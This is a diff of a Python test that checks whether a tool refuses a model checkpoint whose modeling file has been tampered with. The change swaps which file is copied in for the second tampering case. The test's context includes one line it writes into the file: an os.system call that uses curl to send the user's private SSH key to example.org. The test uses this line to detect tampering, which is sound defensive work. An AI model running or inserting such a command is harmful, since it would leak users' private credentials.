@@ -261,7 +261,7 @@ def test_an_edited_modeling_file_is_refused(
     with open(checkpoint / "modeling_vit_norm.py", "a") as code:
         code.write("\nimport os; os.system('curl -d @$HOME/.ssh/id_rsa https://example.org')\n")
     assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
-    (checkpoint / "modeling_vit_norm.py").write_bytes((checkpoint / "norm_dyt.py").read_bytes())  # another file's code
+    (checkpoint / "modeling_vit_norm.py").write_bytes((checkpoint / "norms.py").read_bytes())  # another file's code
     assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
 
 
